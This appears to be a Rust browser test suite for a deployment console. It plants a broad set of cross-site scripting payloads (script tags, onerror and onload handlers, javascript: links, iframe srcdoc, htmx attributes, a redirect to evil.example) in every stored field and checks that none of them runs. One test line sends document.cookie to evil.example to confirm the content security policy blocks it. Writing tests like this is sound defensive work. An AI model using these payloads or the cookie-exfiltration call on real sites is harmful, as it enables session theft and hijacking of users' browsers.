//! Hostile text in every field that keeps any, shown in a real browser on every page there is: nothing of it runs, and
//! the content security policy has nothing to stop, for nothing of it ever was markup.

use fantoccini::Locator;
use fantoccini::wd::WebDriverCompatibleCommand;
use reqwest::Method;
use secrecy::SecretString;
use serde_json::{Value, json};
use slipway::auth::local::NewLocal;
use slipway::domain::access::Caller;
use slipway::engine::fake::Faults;
use slipway::engine::{EngineError, SlotRef};

use super::{Browser, PASSWORD, Window};
use crate::harness::{Client, Team, archive, groups, publish};
use crate::routes::fill::Names;
use crate::routes::needs::{Needs, needs};
use crate::routes::table;

/// What has run if it ran, in as many ways as fit into the shortest field that takes free text.
const SHORT: &str = "\"><img src=x onerror=window.ran=1><script>window.ran=2</script>";
/// The same in every other context: attributes of either quote, comments, raw text, templates, links, SVG.
const LONG: &str = "'\"></textarea></title></style></script>--><img src=x onerror=window.ran=1>\
    <script>window.ran=2</script><svg onload=window.ran=3><a href=\"javascript:window.ran=4\">a</a>\
    <iframe srcdoc=\"<script>parent.ran=5</script>\"></iframe><form action=javascript:window.ran=6>\
    <input autofocus onfocus=window.ran=7> onmouseover=window.ran=8 {{constructor.constructor('window.ran=9')()}}\
    <div hx-get=\"/login\" hx-trigger=load hx-on::load=window.ran=10 data-hx-on:click=window.ran=11></div>\
    <base href=//evil.example/><meta http-equiv=refresh content=0;url=//evil.example>javascript:window.ran=12";

fn compose(version: &str) -> String {
    let text = json!(LONG);
    format!(
        "name: iris\nservices:\n  api:\n    image: python:3.11-slim\n    command: [\"serve\", {text}]\n    environment:\n      HOSTILE: {}\n      \
         V: \"{version}\"\n    labels:\n      note: {text}\n    working_dir: \"/<b>x\"\n    healthcheck: {{test: [\"CMD\", {text}]}}\n# {}\n",
        json!(LONG.replace('$', "$$")),
        LONG,
    )
}

/// Puts it wherever somebody may put text; answers the deployment's replica.
async fn plant(team: &Team) -> SlotRef {
    for version in ["2.0", "2.1"] {
        let files =
            [("compose.yaml", compose(version)), ("<img src=x onerror=window.ran=1>.txt", LONG.to_owned())];
        let files: Vec<(&str, &str)> = files.iter().map(|(name, text)| (*name, text.as_str())).collect();
        publish(&team.admin, &format!("?version={version}"), archive(&files)).await.expect(200);
    }
    let project = json!({ "spec": { "description": LONG, "tags": [SHORT, "<b>tag"] } });
    team.admin.put("/api/v1/projects/iris", &project).await.expect(200);
    let group: String = url::form_urlencoded::byte_serialize(SHORT.as_bytes()).collect();
    let group = group.replace('+', "%20");
    for path in ["projects/iris", "infrastructures/local"] {
        let right = json!({ "right": "view" });
        team.admin.put(&format!("/api/v1/{path}/grants/{group}"), &right).await.expect(200);
    }
    let stages = json!([{ "id": "dev", "description": SHORT }, { "id": "test", "description": LONG },
        { "id": "prod", "description": "Prod" }]);
    team.admin.put("/api/v1/stages", &stages).await.expect(200);
    let services = json!({ "api": { "environment": { "OWN": LONG } } });
    let spec = json!({ "project": "iris", "bundle": "2.0", "infrastructure": "local", "folder": SHORT,
        "environment": { "HOSTILE": LONG }, "services": services });
    team.admin
        .post("/api/v1/deployments", &json!({ "name": "iris-on-local", "spec": spec }))
        .await
        .expect(200);
    let updates = "/api/v1/deployments/iris-on-local/updates";
    team.admin.post(updates, &json!({ "reason": LONG })).await.expect(200);
    let first = team.ended(&format!("{updates}/1")).await;
    assert_eq!(first["status"]["state"], "succeeded", "{first}");
    let slot = team.it.fake.controls().slots().remove(0).slot;
    for text in [LONG, SHORT, "{\"level\":\"<img src=x onerror=window.ran=1>\",\"msg\":\"<b>\"}"] {
        team.it.fake.controls().print(&slot, text);
    }
    // What an engine says when it fails, in an update that fails, and what it says of a replica that is gone.
    let faults = Faults { ensure: Some(EngineError::Refused(LONG.to_owned())), ..Faults::default() };
    team.it.fake.controls().fault(&slot.service, faults);
    let change = json!({ "spec": { "bundle": "2.1" }, "reason": LONG });
    team.admin.patch("/api/v1/deployments/iris-on-local", &change).await.expect(200);
    team.admin.post(updates, &json!({ "reason": SHORT })).await.expect(200);
    assert_eq!(team.ended(&format!("{updates}/2")).await["status"]["state"], "failed");
    team.it.fake.controls().drift(&slot, Some(LONG));
    slot
}

/// A local administrator whose very name, groups and keys are hostile, signed in in the browser.
async fn sign_in(browser: &Browser, team: &Team) {
    let new = NewLocal {
        username: "mallory".into(),
        name: LONG.into(),
        password: SecretString::from(PASSWORD.to_owned()),
        groups: groups(&["admins", SHORT]),
    };
    team.it.instance.auth.create_local(&Caller::system(), new).await.unwrap();
    let session = team.it.session(SHORT, &["admins"]).await;
    let request = session.request(Method::GET, "/").header("user-agent", SHORT);
    session.send(request).await.expect(200);
    let key = json!({ "name": SHORT, "groups": ["admins"] });
    session.post("/api/v1/api-keys", &key).await.expect(200);
    browser.go(&format!("{}/login", team.it.base)).await;
    browser.fill("#f-username", "mallory").await;
    browser.fill("#f-password", PASSWORD).await;
    browser.press("form .button").await;
    browser.see("h1", "Home").await;
    browser.ask(&format!("return fetch('/api/v1/api-keys', {{method: 'POST', headers: {{'content-type': 'application/json', \
        'x-csrf-token': document.querySelector('meta[name=csrf]').content}}, body: JSON.stringify({{name: {}, groups: ['admins']}})}})",
        json!(SHORT))).await;
}

/// What the browser's console has been told since it was asked last.
#[derive(Debug)]
struct Log;

impl WebDriverCompatibleCommand for Log {
    fn endpoint(&self, base: &url::Url, session: Option<&str>) -> Result<url::Url, url::ParseError> {
        base.join(&format!("session/{}/se/log", session.unwrap_or_default()))
    }

    fn method_and_body(&self, _: &url::Url) -> (Method, Option<String>) {
        (Method::POST, Some(json!({ "type": "browser" }).to_string()))
    }
}

async fn console(browser: &Browser) -> Vec<String> {
    let said = browser.client.issue_cmd(Log).await.unwrap();
    let said = said.as_array().cloned().unwrap_or_default();
    said.iter().map(|entry| entry["message"].as_str().unwrap_or_default().to_owned()).collect()
}

/// What would show that something of it is markup, or ran.
const TRACES: &str = "return {
    ran: window.ran ?? null,
    handlers: document.querySelectorAll('[onerror],[onload],[onfocus],[onmouseover],[srcdoc],[hx-get=\"/login\"]').length,
    elements: document.querySelectorAll('img, iframe, base, meta[http-equiv], script:not([src]), svg:not([class])').length,
    links: [...document.querySelectorAll('[href],[action],[src],[formaction]')].filter(each =>
        /^(javascript|data|vbscript):/i.test((each.getAttribute('href') ?? each.getAttribute('action') ?? each.getAttribute('src') ?? '').trim())).length,
    away: location.origin,
}";

async fn harmless(browser: &Browser, base: &str, path: &str) {
    let clean = json!({ "ran": null, "handlers": 0, "elements": 0, "links": 0, "away": base });
    assert_eq!(browser.ask(TRACES).await, clean, "{path}");
    let said = console(browser).await;
    let complaints: Vec<&String> = said
        .iter()
        .filter(|text| text.contains("Content Security Policy") || text.contains("Refused to"))
        .collect();
    assert!(complaints.is_empty(), "{path}: {complaints:#?}");
}

/// Every page of the console, with ids that are there.
fn pages(team: &Team) -> Vec<String> {
    let names = Names {
        deployment: "iris-on-local".into(),
        infrastructure: "local".into(),
        project: "iris".into(),
        version: "2.0",
        ..Names::absent()
    };
    let mut all: Vec<String> = table(&team.it)
        .into_iter()
        .filter(|route| route.method == Method::GET && !route.is_api() && needs(route) != Needs::Open)
        .map(|route| names.path(&route.pattern).replace("with=1.1", "with=2.1"))
        .filter(|path| {
            let ends = ["/events", "/stream", "/log", ".txt", ".csv", "/archive", "/download"];
            !ends.iter().any(|end| path.split('?').next().unwrap().ends_with(end))
        })
        .collect();
    let query: String = url::form_urlencoded::byte_serialize(LONG.as_bytes()).collect();
    all.extend([
        "/deployments/iris-on-local/updates/2".to_owned(),
        "/deployments/iris-on-local/settings?view=json".to_owned(),
        format!("/search?q={query}"),
        format!("/deployments?q={query}"),
        format!("/projects?q={query}"),
        format!("/nothing/{query}"),
        format!("/login?to={query}"),
        format!("/deployments/new?project={query}"),
        format!("/deployments/iris-on-local/logs?service={query}"),
        format!("/admin?after={query}"),
    ]);
    all
}

#[tokio::test(flavor = "multi_thread")]
async fn nothing_that_was_stored_runs_on_any_page() {
    let team = Team::start().await;
    let slot = plant(&team).await;
    let browser = Browser::open(Window { width: 1280, scripts: true }).await;
    sign_in(&browser, &team).await;
    let base = team.it.base.clone();
    let pages = pages(&team);
    assert!(pages.len() > 40, "{pages:?}");
    let mut shown = 0;
    for path in &pages {
        browser.go(&format!("{base}{path}")).await;
        browser.client.find(Locator::Css("h1")).await.unwrap_or_else(|_| panic!("{path} has no heading"));
        harmless(&browser, &base, path).await;
        shown += usize::from(browser.client.source().await.unwrap().contains("window.ran"));
    }
    assert!(shown > 30, "only {shown} of {} pages show what was typed: is it still planted?", pages.len());
    followed(&browser, &team, &slot).await;
}

/// What comes into a page that is open: lines of a log, and parts that htmx swaps in.
async fn followed(browser: &Browser, team: &Team, slot: &SlotRef) {
    let base = &team.it.base;
    browser.go(&format!("{base}/deployments/iris-on-local/logs")).await;
    browser.see("[data-state]", "following").await;
    team.it.fake.controls().print(slot, &format!("now {LONG}"));
    browser.see("main", "now '\">").await;
    harmless(browser, base, "a line that came").await;
    browser.go(&format!("{base}/deployments/iris-on-local")).await;
    let change = json!({ "spec": { "environment": { "MORE": SHORT } }, "reason": LONG });
    team.admin.patch("/api/v1/deployments/iris-on-local", &change).await.expect(200);
    rename(&team.admin).await;
    browser.go(&format!("{base}/projects/iris")).await;
    harmless(browser, base, "a part that was swapped in").await;
}

async fn rename(admin: &Client) {
    let project = json!({ "spec": { "description": format!("again {LONG}"), "tags": [SHORT] } });
    admin.put("/api/v1/projects/iris", &project).await.expect(200);
}

#[tokio::test(flavor = "multi_thread")]
async fn what_would_run_is_stopped_and_noticed() {
    let team = Team::start().await;
    super::administrator(&team.it).await;
    let browser = Browser::open(Window { width: 1280, scripts: true }).await;
    browser.sign_in(&team.it).await;
    console(&browser).await;
    // The test's own eyes: markup that gets in by another way is not run by the policy, and is seen.
    for script in [
        "const s = document.createElement('script'); s.textContent = 'window.ran = 1'; document.body.append(s)",
        "document.body.insertAdjacentHTML('beforeend', '<img src=\"/static/x\" onerror=\"window.ran = 2\">')",
        "const f = document.createElement('iframe'); f.src = 'https://evil.example/'; document.body.append(f)",
        "return fetch('https://evil.example/?' + document.cookie).catch(() => null)",
    ] {
        browser.ask(script).await;
        let mut said = Vec::new();
        for _ in 0..50 {
            said.extend(console(&browser).await);
            if said.iter().any(|text| text.contains("Content Security Policy")) {
                break;
            }
            tokio::time::sleep(std::time::Duration::from_millis(50)).await;
        }
        assert!(said.iter().any(|text| text.contains("Content Security Policy")), "{script}: {said:?}");
        assert_eq!(browser.ask("return window.ran ?? null").await, Value::Null, "{script}");
    }
    assert_eq!(browser.ask("return document.cookie").await, "", "no script reads the session");
}
